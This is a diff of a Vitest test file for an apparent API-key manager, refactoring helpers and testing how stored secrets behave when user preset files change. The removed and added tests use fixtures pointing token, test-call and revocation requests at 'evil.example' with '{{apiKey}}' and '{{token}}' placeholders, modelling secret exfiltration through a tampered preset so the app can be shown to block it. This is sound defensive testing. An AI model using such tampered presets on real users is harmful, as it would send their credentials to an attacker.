@@ -1,68 +1,23 @@
 import { describe, expect, it } from 'vitest';
 import { callHandlers } from '#app/handle-calls';
-import type { KeyId } from '#core/api-key';
 import type { Preset } from '#core/providers/preset';
 import { readPresetFile } from '#core/providers/read-preset-file';
 import { MemoryShell } from '../fakes/memory-shell.ts';
 import { json } from '../fakes/scripted-http.ts';
-import { draft, KeyfobInMemory } from './keyfob-in-memory.ts';
-
-interface Acme {
-  host: string;
-  id?: string;
-  name?: string;
-  rest?: object;
-}
-
-/** The text of a small preset file. */
-function acme({ host, id = 'acme', name = 'Acme', rest = {} }: Acme): string {
-  const exchange = {
-    request: {
-      method: 'POST',
-      url: `https://${host}/token`,
-      body: { kind: 'json', members: { key: '{{apiKey}}' } },
-    },
-  };
-  const fields = [{ id: 'apiKey', label: 'API key', kind: 'secret' }];
-  return JSON.stringify({ id, name, keyKind: 'exchange', fields, exchange, ...rest });
-}
-
-const good = acme({ host: 'acme.example' });
-
-function staticPreset(): string {
-  const fields = [{ id: 'apiKey', label: 'API key', kind: 'secret' }];
-  return JSON.stringify({ id: 'acme', name: 'Acme', keyKind: 'static', tokenField: 'apiKey', fields });
-}
-
-async function withFiles(files: Record<string, string>): Promise<KeyfobInMemory> {
-  const keyfob = new KeyfobInMemory();
-  for (const [name, text] of Object.entries(files)) keyfob.presetFiles.put(name, text);
-  await keyfob.app.start();
-  return keyfob;
-}
-
-async function put(keyfob: KeyfobInMemory, name: string, text: string): Promise<void> {
-  keyfob.presetFiles.put(name, text);
-  await keyfob.time.advance(1_000);
-}
-
-async function remove(keyfob: KeyfobInMemory, name: string): Promise<void> {
-  await keyfob.presetFiles.remove(name);
-  await keyfob.time.advance(1_000);
-}
-
-const acmeDraft = () => draft({ presetId: 'acme', fields: { apiKey: 'canary-acme-key' } });
-const addAcme = (keyfob: KeyfobInMemory) => keyfob.add(acmeDraft());
-const userPresets = (keyfob: KeyfobInMemory) =>
-  keyfob.app
-    .snapshot()
-    .presets.filter(({ source }) => source === 'user')
-    .map(({ id }) => id);
-const problems = (keyfob: KeyfobInMemory) => keyfob.app.snapshot().presetProblems;
-const failureOf = (keyfob: KeyfobInMemory, id: KeyId) =>
-  keyfob.app.snapshot().keys.find((key) => key.id === id)?.token.failure;
-const hosts = (keyfob: KeyfobInMemory) => keyfob.http.requests.map(({ url }) => new URL(url).host);
-const presetChanged = { kind: 'invalidInput', step: 'prepare', reason: 'presetChanged' };
+import { KeyfobInMemory } from './keyfob-in-memory.ts';
+import {
+  acme,
+  addAcme,
+  failureOf,
+  good,
+  hosts,
+  presetChanged,
+  problems,
+  put,
+  remove,
+  userPresets,
+  withFiles,
+} from './preset-files-rig.ts';
 
 describe('a preset file', () => {
   it('that is there at start makes a provider, after the shipped ones and by name', async () => {
@@ -175,6 +130,17 @@ describe('a preset file', () => {
     expect(problems(keyfob)[0]?.file).toBe('a-copy.json');
   });
 
+  it('stays in use when another one comes that is named after its id', async () => {
+    const keyfob = await withFiles({ 'z.json': good });
+    const id = await addAcme(keyfob);
+    await put(keyfob, 'acme.json', acme({ host: 'evil.example' }));
+    expect(problems(keyfob).map(({ file, path }) => [file, path])).toEqual([['acme.json', 'id']]);
+    expect(failureOf(keyfob, id)).toBeNull();
+    await keyfob.restart();
+    expect(problems(keyfob).map(({ file, path }) => [file, path])).toEqual([['z.json', 'id']]);
+    expect(failureOf(keyfob, id)).toEqual(presetChanged);
+  });
+
   it('keeps what was read when the folder cannot be read for once', async () => {
     const keyfob = await withFiles({ 'acme.json': good });
     keyfob.presetFiles.isBroken = true;
@@ -222,109 +188,6 @@ describe('a key whose preset file is gone', () => {
     expect(failureOf(keyfob, id)).toEqual({ kind: 'refused' });
     expect(keyfob.http.requests).toHaveLength(1);
   });
-});
-
-describe('a stored secret', () => {
-  const elsewhere = acme({ host: 'evil.example' });
-
-  it('goes nowhere else because a file changed, until the user saves the key', async () => {
-    const keyfob = await withFiles({ 'acme.json': good });
-    const id = await addAcme(keyfob);
-    await put(keyfob, 'acme.json', elsewhere);
-    expect(failureOf(keyfob, id)).toEqual(presetChanged);
-    expect(await keyfob.app.tokens.renew(id, true)).toEqual({ ok: false, failure: presetChanged });
-    expect(await keyfob.app.copy.copy(id)).toEqual({ ok: false, failure: presetChanged });
-    const kept = { ...acmeDraft(), fields: {} };
-    expect(await keyfob.app.tests.run('a-run', id, kept)).toEqual({ ok: false, failure: presetChanged });
-    await keyfob.time.advance(86_400_000);
-    await keyfob.restart();
-    expect(failureOf(keyfob, id)).toEqual(presetChanged);
-    await keyfob.time.advance(86_400_000);
-    expect(new Set(hosts(keyfob))).toEqual(new Set(['acme.example']));
-
-    expect((await keyfob.app.keys.edit(id, kept)).ok).toBe(true);
-    await keyfob.time.advance(0);
-    expect(keyfob.stateOf(id)).toBe('fresh');
-    expect(hosts(keyfob).at(-1)).toBe('evil.example');
-    await keyfob.app.copy.copy(id);
-    expect(keyfob.clipboard.text).toBe(keyfob.http.issued.at(-1));
-  });
-
-  it('may be used again when the file says what it said before', async () => {
-    const keyfob = await withFiles({ 'acme.json': good });
-    const id = await addAcme(keyfob);
-    await put(keyfob, 'acme.json', elsewhere);
-    await put(keyfob, 'acme.json', good);
-    expect(keyfob.stateOf(id)).toBe('fresh');
-  });
-
-  it('stays where it is when a file vanishes and another one takes its id', async () => {
-    const keyfob = await withFiles({ 'acme.json': good });
-    const id = await addAcme(keyfob);
-    await remove(keyfob, 'acme.json');
-    await put(keyfob, 'other.json', elsewhere);
-    expect(failureOf(keyfob, id)).toEqual(presetChanged);
-    await keyfob.app.tokens.renew(id);
-    expect(hosts(keyfob)).toEqual(['acme.example']);
-  });
-
-  it('may be used on when a file only changed in what it shows or how it judges answers', async () => {
-    const keyfob = await withFiles({ 'acme.json': good });
-    const id = await addAcme(keyfob);
-    const preset = JSON.parse(good);
-    preset.exchange.answer = { defaultLifetimeS: 600, error: { message: ['detail'] } };
-    preset.fields[0] = { help: 'On the page of your account.', ...preset.fields[0], label: 'Key' };
-    await put(keyfob, 'acme.json', JSON.stringify({ summary: 'New', ...preset, name: 'ACME' }));
-    expect(failureOf(keyfob, id)).toBeNull();
-    expect((await keyfob.app.tokens.renew(id)).ok).toBe(true);
-  });
-
-  it.each<[string, (preset: Record<string, never>) => void]>([
-    ['a header', (p) => Object.assign(p['exchange']['request'], { headers: { 'X-Key': '{{apiKey}}' } })],
-    ['a query', (p) => Object.assign(p['exchange']['request'], { query: { a: 'b' } })],
-    [
-      'a test call',
-      (p) =>
-        Object.assign(p, {
-          testCall: { request: { url: 'https://evil.example/', headers: { a: '{{token}}' } } },
-        }),
-    ],
-    [
-      'a revocation',
-      (p) => Object.assign(p, { revocation: { request: { url: 'https://evil.example/{{apiKey.x}}' } } }),
-    ],
-    ['what is copied', (p) => Object.assign(p, { apiCall: { url: 'https://evil.example', envName: 'A' } })],
-    [
-      'outputs',
-      (p) =>
-        Object.assign(p['exchange'], {
-          answer: { outputs: [{ id: 'x', label: 'X', path: 'access_token' }] },
-        }),
-    ],
-    ['its kind', (p) => Object.assign(p, JSON.parse(staticPreset()), { exchange: undefined })],
-  ])('waits for the user when %s of its preset changed', async (what, change) => {
-    const keyfob = await withFiles({ 'acme.json': good });
-    const id = await addAcme(keyfob);
-    const preset = JSON.parse(good);
-    change(preset);
-    await put(keyfob, 'acme.json', JSON.stringify(preset));
-    // A file that cannot be used changes nothing at all.
-    const isBroken = what === 'a revocation';
-    expect(problems(keyfob).length > 0).toBe(isBroken);
-    expect(failureOf(keyfob, id)).toEqual(isBroken ? null : presetChanged);
-  });
-});
-
-it('a key becomes static with its preset, once it is saved', async () => {
-  const keyfob = await withFiles({ 'acme.json': good });
-  const id = await addAcme(keyfob);
-  await put(keyfob, 'acme.json', staticPreset());
-  const kept = { ...acmeDraft(), fields: {} };
-  await keyfob.app.keys.edit(id, kept);
-  await keyfob.time.advance(0);
-  await keyfob.app.copy.copy(id);
-  expect(keyfob.clipboard.text).toBe('canary-acme-key');
-  expect(keyfob.http.requests).toHaveLength(1);
 });
 
 describe('adding a preset', () => {
